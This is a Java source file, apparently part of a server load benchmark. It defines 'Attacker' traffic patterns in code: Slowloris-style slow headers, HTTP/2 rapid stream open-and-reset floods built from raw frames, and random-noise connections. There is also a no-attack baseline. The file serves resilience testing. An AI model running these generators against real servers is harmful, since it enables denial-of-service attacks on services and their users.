package dev.refrain.bench.load;

import static java.nio.charset.StandardCharsets.US_ASCII;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.net.Socket;
import java.nio.ByteBuffer;
import java.util.Random;

/** Somebody who means harm. */
enum Attacker {
  /** Nobody, for comparison. */
  NOBODY("none", 0, 0),

  /** Never comes to the end of a request. */
  SLOW_HEADERS("2,000 connections, each with one byte of a header a second", 2000, 1) {
    @Override
    void greet(OutputStream out) throws IOException {
      out.write("GET / HTTP/1.1\r\nhost: x\r\nx: ".getBytes(US_ASCII));
    }

    @Override
    void annoy(Socket socket, int turn) throws IOException {
      socket.getOutputStream().write('y');
    }
  },

  /** Has work begun that nobody wants any more. */
  RESETS("10 connections of HTTP/2, each with 1,000 streams a second opened and reset", 10, 50) {
    @Override
    void greet(OutputStream out) throws IOException {
      out.write("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(US_ASCII));
      out.write(frame(SETTINGS, 0, 0, new byte[0]));
    }

    @Override
    void annoy(Socket socket, int turn) throws IOException {
      var frames = new ByteArrayOutputStream();
      for (int i = 0; i < STREAMS_A_TURN; i++) {
        int stream = 2 * (turn * STREAMS_A_TURN + i) + 1;
        frames.writeBytes(frame(HEADERS, END_OF_STREAM_AND_HEADERS, stream, GET));
        frames.writeBytes(frame(RST_STREAM, 0, stream, CANCEL));
      }
      socket.getOutputStream().write(frames.toByteArray());
    }
  },

  /** Sends what is no HTTP. */
  GARBAGE("500 connections a second, each with 1 KB of noise", 10, 50) {
    @Override
    void greet(OutputStream out) {}

    @Override
    void annoy(Socket socket, int turn) throws IOException {
      var noise = new byte[1 << 10];
      new Random(turn).nextBytes(noise);
      socket.getOutputStream().write(noise);
      socket.shutdownOutput();
      throw new IOException("the next one on a new connection");
    }
  };

  private static final int STREAMS_A_TURN = 20;
  private static final int SETTINGS = 4;
  private static final int HEADERS = 1;
  private static final int RST_STREAM = 3;
  private static final int END_OF_STREAM_AND_HEADERS = 5;
  private static final byte[] CANCEL = {0, 0, 0, 8};

  /** By HPACK's table: GET, http, /, and an authority. */
  private static final byte[] GET = {(byte) 0x82, (byte) 0x86, (byte) 0x84, 0x41, 1, 'x'};

  private final String description;
  private final int connections;
  private final int turnsPerSecond;

  Attacker(String description, int connections, int turnsPerSecond) {
    this.description = description;
    this.connections = connections;
    this.turnsPerSecond = turnsPerSecond;
  }

  String description() {
    return description;
  }

  int connections() {
    return connections;
  }

  int turnsPerSecond() {
    return turnsPerSecond;
  }

  /** Says the first words on a new connection. */
  void greet(OutputStream out) throws IOException {}

  /** Does what it does again and again; a failure means that a new connection is needed. */
  void annoy(Socket socket, int turn) throws IOException {}

  private static byte[] frame(int type, int flags, int stream, byte[] payload) {
    return ByteBuffer.allocate(9 + payload.length)
        .put((byte) 0)
        .putShort((short) payload.length)
        .put((byte) type)
        .put((byte) flags)
        .putInt(stream)
        .put(payload)
        .array();
  }
}
